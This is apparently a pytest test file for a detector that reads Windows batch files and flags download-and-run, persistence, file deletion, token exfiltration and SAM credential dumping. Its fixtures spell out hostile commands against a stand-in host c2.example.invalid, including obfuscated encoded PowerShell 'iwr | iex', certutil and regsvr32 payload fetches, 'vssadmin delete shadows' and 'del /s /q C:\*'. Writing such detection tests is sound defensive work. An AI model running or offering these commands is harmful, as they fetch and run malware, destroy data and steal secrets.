"""Batch files: carets, slices of variables, and the tools that come with the system."""

from __future__ import annotations

import base64

import pytest

from fimci.model import Capability
from fimci.readers.code import batch

ENCODED = base64.b64encode("iwr http://c2.example.invalid/a | iex".encode("utf-16-le")).decode()


def told(text: str) -> set[str]:
    return {f"{r.name} {r.subject}" for r in batch.read("a.bat", text.encode()) if isinstance(r, Capability)}


@pytest.mark.parametrize(
    "text",
    [
        "curl -o x.exe https://c2.example.invalid/x && x.exe",
        "certutil -urlcache -split -f https://c2.example.invalid/x x.exe & start x.exe",
        "bitsadmin /transfer j https://c2.example.invalid/x x.exe\r\ncall x.exe",
        f"p^o^w^e^r^shell -nop -enc {ENCODED}",
        f"set a=xpowershellx\r\n%a:~1,10% -e {ENCODED}",
        'powershell -Command "iwr https://c2.example.invalid/x | iex"',
        "mshta https://c2.example.invalid/x.hta",
        "regsvr32 /s /i:https://c2.example.invalid/x.sct scrobj.dll",
        'cmd /c "curl -o x.exe https://c2.example.invalid/x && x.exe"',
    ],
)
def test_what_is_fetched_and_run(text: str) -> None:
    found = told(text)
    assert any(one.startswith("download-and-run c2.example.invalid -> ") for one in found), found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
            "persistence CurrentVersion\\Run",
        ),
        ("schtasks /create /tn x /tr y", "persistence schtasks"),
        (
            'copy x "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"',
            "persistence Start Menu/Programs/Startup",
        ),
        ("del /s /q C:\\*", "filesystem-delete C:\\*"),
        ("rd /s /q %USERPROFILE%", "filesystem-delete $userprofile"),
        ("vssadmin delete shadows /all", "filesystem-delete shadow copies"),
        ("curl -d %NPM_TOKEN% https://c2.example.invalid", "exfiltration NPM_TOKEN -> c2.example.invalid"),
        ("start /b node x.js", "process node"),
        ("reg save HKLM\\SAM sam", "credentials SAM"),
        ("if exist a (npm publish) else (echo b)", "self-propagation npm publish"),
    ],
)
def test_effects(text: str, expected: str) -> None:
    assert expected in told(text), told(text)


@pytest.mark.parametrize(
    "text",
    [
        "@echo off\r\nsetlocal\r\nset DIR=%~dp0\r\ncd /d %DIR%\r\nnode cli.js %*\r\nendlocal",
        (
            '@IF EXIST "%~dp0\\node.exe" (\r\n  "%~dp0\\node.exe" "%~dp0\\x.js" %*\r\n'
            ') ELSE (\r\n  node "%~dp0\\x.js" %*\r\n)'
        ),
        "rem curl https://c2.example.invalid | sh\r\n:: powershell -enc x\r\n:end\r\nexit /b 0",
        "rd /s /q dist\r\ncall npm ci\r\nif errorlevel 1 goto :end",
        "echo.\r\necho curl is fetched",
        (
            'set "DIR=%~dp0"\r\nif "%DIR:~-1%"=="\\" set "DIR=%DIR:~0,-1%"\r\n'
            'set "ENV=%DIR%\\env"\r\n"%ENV%\\python.exe" -m left %*'
        ),
        "pushd docs\r\nsphinx-build -b html . _build\r\npopd",
    ],
)
def test_innocent_files_say_nothing(text: str) -> None:
    assert told(text) == set()


def test_lines() -> None:
    records = list(
        batch.read("a.cmd", b"@echo off\r\nset a=b ^\r\n c\r\ncurl https://c2.example.invalid\r\n")
    )
    assert [record.at.line for record in records if isinstance(record, Capability)] == [4]


def test_what_it_wants() -> None:
    assert batch.wants("a/B.CMD", b"")
    assert not batch.wants("a.battle", b"")
